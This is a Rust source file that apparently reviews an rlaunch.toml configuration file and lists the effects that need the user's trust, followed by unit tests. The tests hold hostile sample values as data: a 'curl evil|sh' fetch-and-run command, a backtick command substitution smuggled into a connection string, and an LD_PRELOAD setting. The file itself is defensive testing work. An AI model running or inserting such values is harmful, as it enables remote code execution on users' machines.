//! Review of a configuration file before it is trusted: the effects that it would have.

use super::error::{ConfigError, FILE, SettingOrigin};
use super::file::{self, Setting, SettingValue};
use super::trusted::{NamedFile, TrustStore, named_files};
use super::{find, merge, untrusted};
use clap::Command;
use rlaunch_console::process_env::ProcessEnv;
use rlaunch_plan::hosts::host_table::{HostEntry, HostGroup};
use std::path::{Path, PathBuf};

/// Configuration file, the effects that it would have if trusted, and its content, which [`Review::trust`]
/// records.
#[derive(Clone, Debug)]
pub(crate) struct Review {
    path: PathBuf,
    text: String,
    /// Other files that are trusted together with this one, each with the digest of its present content.
    named: Vec<NamedFile>,
    /// Effects that need trust, one per line.
    pub(crate) lines: Vec<String>,
}

impl Review {
    /// Reads the rlaunch.toml of a working directory. `all` has every option that may be set.
    pub(crate) fn read(path: &Path, mut all: Command) -> Result<Review, ConfigError> {
        all.build();
        if path.file_name().is_none_or(|name| name != FILE) {
            return Err(ConfigError::NeedsNoTrust(path.to_owned()));
        }
        let text =
            find::read_if_safe(path)?.ok_or_else(|| ConfigError::Missing(path.to_owned()))?;
        let file = file::parse(&text, path)?;
        let mut found: Vec<(usize, String)> = Vec::new();
        for setting in file.host_list.iter().chain(&file.defaults) {
            found.extend(setting_line(&all, setting, "")?);
        }
        for (name, settings) in &file.profiles {
            let section = format!("[profile.{}] ", name.escape_debug());
            for setting in settings {
                found.extend(setting_line(&all, setting, &section)?);
            }
        }
        found.extend(file.hosts.iter().filter_map(|host| Some((host.line, host_effect(host)?))));
        found.extend(file.groups.iter().map(|group| (group.line, group_effect(group))));
        let named = named_files(&all, &file, path);
        found.extend(named.iter().filter_map(|named| Some((named.line, file_effect(named)?))));
        found.sort_by_key(|(line, _)| *line);
        let shown = |(line, text): (usize, String)| format!("{}:{line}: {text}", path.display());
        let lines = found.into_iter().map(shown).collect();
        Ok(Review { path: path.to_owned(), text, named, lines })
    }

    /// Records that the user trusts the file and the files that it names, with the content that was read.
    pub(crate) fn trust(&self, env: &ProcessEnv) -> Result<(), ConfigError> {
        TrustStore::for_user(env)?.trust(&self.path, &self.text, &self.named)
    }
}

/// Describes the effect of a setting, and returns its line number with the text. Values are shown in full,
/// even if they look like secrets, since a command could hide in one. Returns `None` for a harmless setting,
/// except in a profile, which takes effect as a whole or not at all.
fn setting_line(
    all: &Command,
    setting: &Setting,
    section: &str,
) -> Result<Option<(usize, String)>, ConfigError> {
    let checked = merge::check(all, setting)?;
    let is_harmless = untrusted::is_harmless(&checked);
    let SettingOrigin::Line(_, line) = checked.origin else { return Ok(None) };
    if is_harmless && section.is_empty() {
        return Ok(None);
    }
    let quoted = |text: &String| format!("{text:?}");
    let value = match &setting.value {
        SettingValue::Flag(flag) => flag.to_string(),
        SettingValue::Text(text) => quoted(text),
        SettingValue::List(texts) => texts.iter().map(quoted).collect::<Vec<_>>().join(", "),
    };
    let effect = if is_harmless { "" } else { untrusted::effect(&checked.option) };
    let colon = if effect.is_empty() { "" } else { ": " };
    Ok(Some((line, format!("{section}{} = {value}{colon}{effect}", setting.key))))
}

/// Describes a named file: trusted with its present content, or missing. Returns `None` for a word of a
/// command line that is not the name of a file.
fn file_effect(named: &NamedFile) -> Option<String> {
    let name = &named.name;
    match &named.digest {
        Some(_) => Some(format!("file {name:?}: trusted with its present content")),
        None if named.is_word => None,
        None => Some(format!("file {name:?}: missing; trust ends if it appears")),
    }
}

/// Lists what the file sets for a host: how the host is reached, and its slots; `None` if nothing.
fn host_effect(host: &HostEntry) -> Option<String> {
    let words = [
        host.ssh.as_ref().map(|ssh| format!("ssh {ssh:?}")),
        host.user.as_ref().map(|user| format!("user {user:?}")),
        host.port.map(|port| format!("port {port}")),
        host.slots.map(|slots| format!("slots {slots}")),
        (!host.fabric_addresses.is_empty()).then(|| "mesh".to_owned()),
    ];
    let words: Vec<String> = words.into_iter().flatten().collect();
    (!words.is_empty()).then(|| format!("host {:?}: {}", host.name, words.join(", ")))
}

fn group_effect(group: &HostGroup) -> String {
    let lists: Vec<String> = group.lists.iter().map(|list| format!("{list:?}")).collect();
    format!("group @{}: {}", group.name, lists.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::args::JobArgs;
    use clap::CommandFactory;
    use std::fs;

    fn reviewed(text: &str, files: &[&str]) -> String {
        let scratch = tempfile::tempdir().unwrap();
        let path = scratch.path().join(FILE);
        fs::write(&path, text).unwrap();
        for file in files {
            fs::write(scratch.path().join(file), "").unwrap();
        }
        let lines = Review::read(&path, JobArgs::command()).unwrap().lines.join("\n");
        lines.replace(&format!("{}/", scratch.path().display()), "")
    }

    #[test]
    fn values_are_shown_in_full_but_for_control_characters() {
        let long = "x".repeat(5000);
        for (value, shown) in [
            (
                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
                "env SSH_AUTH_SOCK=x sh -c 'curl evil|sh' --",
            ),
            ("nc pg://u:`id>pwned`@h", "nc pg://u:`id>pwned`@h"),
            ("a\\u001b[2J\\u202Eb", "a\\u{1b}[2J\\u{202e}b"),
            (&long, &long),
        ] {
            let lines = reviewed(&format!("[defaults]\nrsh = \"{value}\"\n"), &[]);
            let expected =
                format!("rlaunch.toml:2: rsh = \"{shown}\": runs a command on this machine");
            assert_eq!(lines, expected);
        }
        let env = "[profile.x]\nenv = [\"A_KEY=1\", \"LD_PRELOAD=/e\"]\n";
        assert!(reviewed(env, &[]).contains("env = \"A_KEY=1\", \"LD_PRELOAD=/e\": sets "));
    }

    #[test]
    fn the_hosts_of_a_group_are_listed() {
        let lines = reviewed("[groups]\ngpu = [\"a\", \"me@b:4\", \"n[1-2]\"]\n", &[]);
        assert_eq!(lines, "rlaunch.toml:2: group @gpu: \"a\", \"me@b:4\", \"n[1-2]\"");
    }

    #[test]
    fn files_that_are_covered_are_listed() {
        let text = "[defaults]\nrsh = \"ssh -F c.cfg x\"\nenv-file = [\"e\", \"none\"]\n";
        let lines = reviewed(text, &["c.cfg", "e"]);
        for line in [
            "rlaunch.toml:2: file \"c.cfg\": trusted with its present content",
            "rlaunch.toml:3: file \"e\": trusted with its present content",
            "rlaunch.toml:3: file \"none\": missing; trust ends if it appears",
        ] {
            assert!(lines.contains(line), "no {line}: {lines}");
        }
        assert_eq!(lines.lines().count(), 5, "{lines}");
    }
}
